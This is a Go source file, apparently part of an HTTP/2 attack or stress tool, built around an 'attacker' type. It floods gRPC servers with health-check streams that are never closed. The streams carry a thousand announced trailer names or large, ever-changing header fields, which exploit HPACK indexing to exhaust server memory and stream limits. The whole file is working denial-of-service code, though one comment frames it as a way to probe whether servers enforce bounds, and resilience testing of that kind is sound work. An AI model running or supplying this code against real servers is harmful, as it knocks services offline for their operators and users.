package main

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
)

const (
	// heldAddresses take turns with connections; how many of these there are is for the order to say.
	heldAddresses = 50
	// heldPerSecond streams are begun a second, first and again: a server without bounds soon has thousands of them, one with
	// bounds is not kept busy saying no.
	heldPerSecond = 500
)

// holdTrailers opens as many calls as it may without ending them. Each announces a thousand trailers in a field that is
// sent once and then named with one byte (RFC 7541 section 2.3).
func holdTrailers(ctx context.Context, a *attacker) error {
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	var names []string
	for i := range 1000 {
		names = append(names, string(letters[i%26])+string(letters[i/26%36])+string(letters[i/26/36]))
	}
	return hold(ctx, a, heldPerSecond, func() []string { return []string{"trailer", strings.Join(names, ",")} })
}

// holdHeaders does the same with header fields that are new each time and as large as they may be.
func holdHeaders(ctx context.Context, a *attacker) error {
	var turn atomic.Int64
	return hold(ctx, a, heldPerSecond/2, func() (fields []string) {
		n := turn.Add(1)
		for i := range 60 {
			fields = append(fields, fmt.Sprintf("x-field-%d", i), strings.Repeat(fmt.Sprintf("%07d~", n), 120))
		}
		return fields
	})
}

// hold opens calls of health on many connections, with fields that are made for each, and opens more as they end.
func hold(ctx context.Context, a *attacker, perSecond int, fields func() []string) error {
	pace := newPacer(ctx, perSecond)
	var holders, full sync.WaitGroup
	full.Add(a.Held)
	go func() { full.Wait(); a.ready() }()
	for i := range a.Held {
		holders.Go(func() {
			var once sync.Once
			done := func() { once.Do(full.Done) }
			defer done()
			for opened := 0; pace.next(); {
				conn, err := a.dial(ctx, i%heldAddresses)
				if err != nil {
					done()
					continue
				}
				f, err := openFrames(conn, 1<<16)
				if err != nil {
					done()
					continue
				}
				for f.room(ctx) && pace.next() {
					all := append([]string{":method", "POST", ":scheme", "http", ":path", "/grpc.health.v1.Health/Check", ":authority", a.Server,
						"content-type", "application/grpc", "te", "trailers"}, fields()...)
					if _, ok := f.request(false, all...); !ok {
						break
					}
					a.toll.tries.Add(1)
					if opened++; opened == f.most {
						done()
					}
				}
				_ = conn.Close()
				if opened >= 2*f.most {
					done()
				}
			}
		})
	}
	holders.Wait()
	return nil
}
